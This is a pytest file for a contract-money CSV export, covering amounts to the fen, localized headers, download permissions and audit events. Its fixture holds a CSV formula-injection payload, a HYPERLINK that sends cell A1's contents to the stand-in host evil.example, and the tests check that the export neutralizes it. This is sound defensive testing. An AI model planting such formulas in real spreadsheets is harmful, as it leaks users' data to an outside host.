"""A contract's money as a spreadsheet (/contracts/<id>/money.csv): budget lines, expenses and tranches to the fen,
dates and times as Beijing shows them, the header in the reader's language, text typed by the organisation or an
officer never run as a formula, who may download it (as who may see the contract's page), the page's link, and the
download recorded in the audit trail."""

import csv
import io
from datetime import UTC, timedelta
from decimal import Decimal
from urllib.parse import unquote

import pytest
from sqlalchemy import select
from werkzeug.datastructures import FileStorage

from accounts.enums import Role
from audit import verification
from core.db import db
from core.timeutil import local_today
from orgs.models import Membership
from projects import contract_money
from projects.contract_export import CONTRACT_MONEY
from projects.contract_models import Expense
from tests.factories import make_user
from tests.projects.contract_helpers import PNG_BYTES, accepted_report, last_event

EVIL_PAYEE = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'
EVIL_REFERENCE = "+8620261206"
SECONDS = "%Y-%m-%d %H:%M:%S"


@pytest.fixture
def money(app, contract_world):
    """The process's prebuilt active contract (¥120,000; tests.prebuilt), its first milestone's report accepted (as
    the `payable` fixture does) and its tranche paid, with two expenses: ¥1,234.56 with a receipt on the first line,
    ¥0.05 to a payee named like a formula on the second."""
    officer, manager, contract = contract_world
    accepted_report(app, contract, officer, manager)
    first, second = contract.lines[0], contract.lines[1]
    with app.test_request_context():
        receipt = FileStorage(io.BytesIO(PNG_BYTES), filename="发票.png", content_type="image/png")
        contract_money.record_expense(contract, first, local_today(), "张明", 123_456, receipt, actor=manager)
        contract_money.record_expense(contract, second, local_today(), EVIL_PAYEE, 5, None, actor=manager)
        contract_money.pay_tranche(contract.tranches[0], EVIL_REFERENCE, local_today(), actor=officer)
    db.session.commit()
    db.session.expire_all()
    return officer, manager, contract


def url(contract) -> str:
    return f"/contracts/{contract.id}/money.csv"


def parse(response) -> list[list[str]]:
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the Chinese as UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8").removeprefix("\ufeff"), newline="")))


def sections(rows: list[list[str]]) -> list[list[list[str]]]:
    """The file split at its blank rows: heading block, budget lines, expenses, tranches."""
    parts, current = [], []
    for row in rows:
        if row == []:
            parts.append(current)
            current = []
        else:
            current.append(row)
    return [*parts, current]


def fen(text: str) -> int:
    return int(Decimal(text) * 100)


def download(client, contract, **kwargs):
    return client.get(url(contract), buffered=True, **kwargs)


def test_lines_expenses_and_tranches_to_the_fen(money, client, login_as):
    officer, _manager, contract = money
    login_as(officer)
    response = download(client, contract)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    heading, lines, expenses, tranches = sections(parse(response))

    block = {row[0]: row[1] for row in heading}
    assert block["合同"] == contract.title and block["社会组织"] == contract.org.name
    assert block["合同金额（元）"] == "120000.00" and block["已拨付（元）"] == "48000.00"
    assert block["已支出（元）"] == "1234.61"

    assert lines[0] == ["预算明细"]
    assert lines[1] == ["类别", "支出内容", "预算（元）", "已支出（元）", "余额（元）"]
    body, total = lines[2:-1], lines[-1]
    assert [row[1] for row in body] == [x.item for x in contract.lines]
    assert [row[0] for row in body] == [x.category_label for x in contract.lines]
    assert [(fen(r[2]), fen(r[3]), fen(r[4])) for r in body] == \
        [(x.budget_fen, x.spent_fen, x.budget_fen - x.spent_fen) for x in contract.lines]
    assert [r[3] for r in body[:2]] == ["1234.56", "0.05"]
    assert total[0] == "合计" and (fen(total[2]), fen(total[3])) == (12_000_000, 123_461)
    assert fen(total[4]) == 12_000_000 - 123_461 == sum(fen(r[4]) for r in body)

    assert expenses[0] == ["支出明细"]
    assert expenses[1] == ["支出编号", "日期", "预算科目", "收款方", "金额（元）", "附票据", "登记时间"]
    recorded = list(db.session.scalars(select(Expense).where(Expense.contract_id == contract.id).order_by(Expense.id)))
    today = local_today().isoformat()
    beijing = [(e.created_at.astimezone(UTC).replace(tzinfo=None) + timedelta(hours=8)).strftime(SECONDS)
               for e in recorded]
    assert expenses[2] == [str(recorded[0].id), today, contract.lines[0].item, "张明", "1234.56", "是", beijing[0]]
    assert expenses[3] == [str(recorded[1].id), today, contract.lines[1].item, "'" + EVIL_PAYEE, "0.05", "否",
                           beijing[1]]
    assert expenses[4][0] == "合计" and expenses[4][4] == "1234.61"

    assert tranches[0] == ["拨付批次"]
    assert tranches[1] == ["批次", "里程碑", "比例（%）", "金额（元）", "截止日期", "状态", "拨付日期", "付款凭证号",
                           "扣减（元）", "应付（元）"]
    m1, m2 = contract.milestones
    assert tranches[2] == ["第 1 批", m1.title, "40", "48000.00", m1.due_on.isoformat(), "已拨付", today,
                           "'" + EVIL_REFERENCE, "0.00", "48000.00"]
    assert tranches[3] == ["第 2 批", m2.title, "30", "36000.00", m2.due_on.isoformat(), "未到拨付条件", "", "",
                           "0.00", "36000.00"]
    assert tranches[4] == ["第 3 批", "终期评估后", "30", "36000.00", "", "未到拨付条件", "", "", "0.00", "36000.00"]
    assert tranches[5][0] == "合计" and fen(tranches[5][3]) == contract.amount_fen == sum(
        fen(r[3]) for r in tranches[2:5])


def test_english_header_and_the_file_names(money, client, login_as):
    _officer, manager, contract = money
    login_as(manager)
    client.get("/lang/en")  # the reader chose English
    response = download(client, contract)
    heading, lines, expenses, tranches = sections(parse(response))
    assert heading[0] == ["Contract", contract.title] and heading[-1][0] == "Exported at"
    assert lines[:2] == [["Budget lines"], ["Category", "Item", "Budget (yuan)", "Spent (yuan)", "Remaining (yuan)"]]
    assert expenses[1] == ["Expense no.", "Date", "Budget line", "Payee", "Amount (yuan)", "Receipt attached",
                           "Recorded at"]
    assert expenses[2][5] == "Yes" and expenses[3][5] == "No"
    assert tranches[1] == ["Tranche", "Milestone", "Share (%)", "Amount (yuan)", "Due on", "Status", "Paid on",
                           "Payment reference", "Deducted (yuan)", "To pay (yuan)"]
    assert tranches[2][0] == "Tranche 1" and tranches[2][5] == "Paid" and tranches[4][1] == "after the final evaluation"
    today = local_today().isoformat()
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith(f'attachment; filename="contract-{contract.id}-money-{today}.csv"; ')
    assert unquote(disposition.split("''", 1)[1]) == f"contract-money-{contract.title}-{today}.csv"
    client.get("/lang/zh_Hans_CN")
    chinese = download(client, contract)
    assert unquote(chinese.headers["Content-Disposition"].split("''", 1)[1]) == \
        f"合同资金明细-{contract.title}-{today}.csv"


def test_text_typed_by_people_never_runs_as_a_formula(money, client, login_as):
    officer, _manager, contract = money
    login_as(officer)
    cells = [c for row in parse(download(client, contract)) for c in row]
    assert "'" + EVIL_PAYEE in cells and "'" + EVIL_REFERENCE in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    # Figures the export wrote itself are numbers, not guarded text (none negative here, none starting with ').
    assert "120000.00" in cells and not any(c.startswith("'") and c[1:2].isdigit() for c in cells)


def test_amounts_are_exact_fen_without_float_rounding(app, contract_world, client, login_as):
    """An expense of 0.29 yuan (29 fen; 0.29 * 100 is 28.999… as a float) reads back to the fen."""
    officer, manager, contract = contract_world
    with app.test_request_context():
        contract_money.record_expense(contract, contract.lines[0], local_today(), "供应商", 29, None, actor=manager)
    db.session.commit()
    login_as(officer)
    _heading, lines, expenses, _tranches = sections(parse(download(client, contract)))
    assert expenses[2][4] == "0.29" and lines[2][3] == "0.29"
    assert fen(lines[2][4]) == contract.lines[0].budget_fen - 29


ROLES = ("officer", "auditor", "admin", "manager", "member", "rival", "resident", "anonymous")
ALLOWED = {"officer", "auditor", "admin", "manager", "member"}


def test_who_may_download_is_who_may_see_the_contract_page(money, client, login_as):
    officer, manager, contract = money
    rival = db.session.scalar(select(Membership).where(Membership.org_id != contract.org_id,
                                                       Membership.role == "manager")).user
    member = make_user()
    db.session.add(Membership(org_id=contract.org_id, user_id=member.id, role="member"))
    users = {"officer": officer, "auditor": make_user(Role.AUDITOR), "admin": make_user(Role.ADMIN),
             "manager": manager, "member": member, "rival": rival, "resident": make_user(Role.RESIDENT),
             "anonymous": None}
    db.session.commit()
    for role in ROLES:
        client.post("/logout")
        if users[role] is not None:
            login_as(users[role])
        before = verification.head().seq
        response = download(client, contract)
        page = client.get(f"/contracts/{contract.id}")
        if role == "anonymous":
            assert response.status_code == 302 and "/login" in response.headers["Location"]
        elif role in ALLOWED:
            assert (response.status_code, page.status_code) == (200, 200), role
            assert f'id="money-csv" href="{url(contract)}"' in page.get_data(as_text=True), role
        else:  # as the contract page answers: it does not exist for them
            assert (response.status_code, page.status_code) == (404, 404), role
            assert "张明" not in response.get_data(as_text=True)
        # (a login is an event of its own; the download adds one only when it is given)
        assert verification.head().seq == before + (role in ALLOWED), role
        if users[role] is not None:
            before = verification.head().seq
            assert client.get("/contracts/999999/money.csv").status_code == 404
            assert verification.head().seq == before


def test_a_download_is_one_audit_event_naming_the_contract_and_counts_not_the_content(money, client, login_as):
    _officer, _manager, contract = money
    auditor = make_user(Role.AUDITOR)
    db.session.commit()
    login_as(auditor)  # auditors only read, but what they take away is recorded as anyone's is
    before = verification.head().seq
    assert download(client, contract).status_code == 200
    event = last_event(CONTRACT_MONEY)
    assert event.seq == before + 1 == verification.head().seq
    assert (event.actor_id, event.target_type, event.target_id) == (auditor.id, "contracts", str(contract.id))
    assert '"expenses":2' in event.data and '"tranches":3' in event.data and f'"lines":{len(contract.lines)}' in \
        event.data
    assert "张明" not in event.data and EVIL_REFERENCE not in event.data
    assert verification.verify().ok
    page = client.get("/audit/?action=export.", headers={"Accept-Language": "zh-CN"}).get_data(as_text=True)
    assert "合同资金明细已下载（CSV）" in page
